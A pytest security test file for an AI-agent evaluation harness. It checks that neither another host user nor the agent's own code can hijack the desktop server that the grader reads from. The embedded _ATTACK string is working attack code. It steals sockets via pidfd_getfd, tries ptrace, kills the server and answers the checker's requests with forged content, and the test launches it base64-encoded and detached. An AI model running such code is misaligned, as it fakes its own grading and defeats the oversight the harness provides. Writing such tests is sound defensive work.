"""The grader's channel to the desktop's server: only the run may use it, and the agent cannot take it over.

Upstream's in-VM server has no credential, and the agent's code runs as its uid. Two attacks, each on a
real local desktop: another host user drives the server through the run's port (issue 33, finding 3),
and the agent's code steals or replaces the server so that the checker's `/file` reads its forgery
(finding 2: with the forwarder inside the desktop, `pidfd_getfd` gave the agent its host socket).
"""

from __future__ import annotations

import base64
import json
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests._nobody import as_nobody

pytestmark = [pytest.mark.slow, pytest.mark.e2e]

FORGED = "forged by the agent"
#: The agent's attack, run detached as the desktop user by one of its actions. It takes every socket it
#: can from the desktop's own processes, checks whether it may trace the server, then stops the session
#: (so the desktop outlives its server), kills the server and answers every request itself: on each
#: stolen listening socket and on the server's port.
_ATTACK = f"""
import ctypes, json, os, signal, socket, stat, threading, time
from http.server import BaseHTTPRequestHandler, HTTPServer

libc = ctypes.CDLL(None, use_errno=True)
time.sleep(1)
report = {{"stolen": [], "traced": [], "refused": []}}


def cmdline(pid):
    try:
        return open(f"/proc/{{pid}}/cmdline", "rb").read()
    except OSError:
        return b""


mine = [
    int(p) for p in os.listdir("/proc")
    if p.isdigit() and int(p) != os.getpid() and os.stat(f"/proc/{{p}}").st_uid == os.getuid()
]
desktop = [p for p in mine if b"serve.py" in cmdline(p) or b"session.py" in cmdline(p)]
listeners = []
for pid in desktop:
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    for fd in range(64):
        got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if got < 0:
            report["refused"].append([pid, fd, ctypes.get_errno()])
            continue
        if stat.S_ISSOCK(os.fstat(got).st_mode):
            sock = socket.socket(fileno=got)
            if sock.type == socket.SOCK_STREAM and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                listeners.append(sock)
                report["stolen"].append([pid, fd])
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        report["traced"].append(pid)
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH


class Forger(BaseHTTPRequestHandler):
    def answer(self):
        body = {FORGED!r}.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        with open(os.path.expanduser("~/forged-answers"), "a") as hits:
            hits.write(self.path + "\\n")

    do_GET = do_POST = answer


for pid in desktop:
    os.kill(pid, signal.SIGSTOP if b"session.py" in cmdline(pid) else signal.SIGKILL)
time.sleep(0.5)
servers = []
for sock in listeners:
    server = HTTPServer(sock.getsockname()[:2], Forger, bind_and_activate=False)
    server.socket = sock
    servers.append(server)
for _ in range(50):
    try:
        servers.append(HTTPServer(("0.0.0.0", 5000), Forger))
        break
    except OSError:
        time.sleep(0.1)
report["port_taken"] = len(servers) > len(listeners)
for server in servers:
    threading.Thread(target=server.serve_forever, daemon=True).start()
with open(os.path.expanduser("~/attack.json"), "w") as out:
    json.dump(report, out)
time.sleep(600)
"""


@pytest.fixture
def desktop(osworld_root: Path, desktop_ready: None) -> Iterator[object]:
    from forge_eval.benchmarks.osworld import LocalDesktop
    from forge_eval.benchmarks.osworld.install import desktop_site

    running = LocalDesktop(site_dir=desktop_site(), tree=osworld_root).start()
    try:
        yield running
    finally:
        running.stop()


def test_another_host_user_cannot_drive_the_desktop(desktop: object, tmp_path: Path) -> None:
    from forge_eval.benchmarks.osworld import LocalDesktop

    assert isinstance(desktop, LocalDesktop) and desktop.client is not None
    url = desktop.client.url
    command = {"command": "touch /home/user/driven-by-a-stranger", "shell": True}
    stranger = f"""
import httpx, json, sys
try:
    answer = httpx.post({url + "/setup/execute"!r}, json={command!r}, timeout=10)
    print(json.dumps({{"status": answer.status_code, "body": answer.text[:200]}}))
except httpx.HTTPError as exc:
    print(json.dumps({{"error": type(exc).__name__}}))
"""
    done = as_nobody(sys.executable, "-c", stranger)
    assert done.returncode == 0, done.stderr
    assert "error" in json.loads(done.stdout), done.stdout  # closed unanswered
    assert not (desktop.home / "driven-by-a-stranger").exists()
    # the run itself still drives it
    assert desktop.client.execute(["touch", "/home/user/driven-by-the-run"])["returncode"] == 0
    assert (desktop.home / "driven-by-the-run").exists()


def test_the_agent_cannot_answer_the_checker_in_the_servers_place(desktop: object) -> None:
    from forge_eval.benchmarks.osworld import LocalDesktop

    assert isinstance(desktop, LocalDesktop) and desktop.client is not None
    client = desktop.client
    client.upload("/home/user/Desktop/answer.txt", b"the real answer")
    assert client.read("/home/user/Desktop/answer.txt") == b"the real answer"
    # as the agent's actions run: python code executed by the desktop's server, as the desktop user
    encoded = base64.b64encode(_ATTACK.encode()).decode()
    detached = "start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL"
    launch = (
        "import base64, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        f"base64.b64decode({encoded!r}).decode()], {detached})"
    )
    assert client.execute(["python", "-c", launch])["returncode"] == 0
    report_file = desktop.home / "attack.json"
    deadline = time.monotonic() + 60
    while not report_file.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    report = json.loads(report_file.read_text())
    assert report["stolen"] == [] and report["traced"] == [], report
    assert report["refused"], "the attack found no process to take sockets from"
    # the server is dead and the agent's own listens on its port: the checker's read fails, unforged
    assert report["port_taken"], report
    try:
        read = client.read("/home/user/Desktop/answer.txt")
    except httpx.HTTPError:
        read = None
    assert read != FORGED.encode()
    assert not (desktop.home / "forged-answers").exists(), "a host request reached the agent's server"
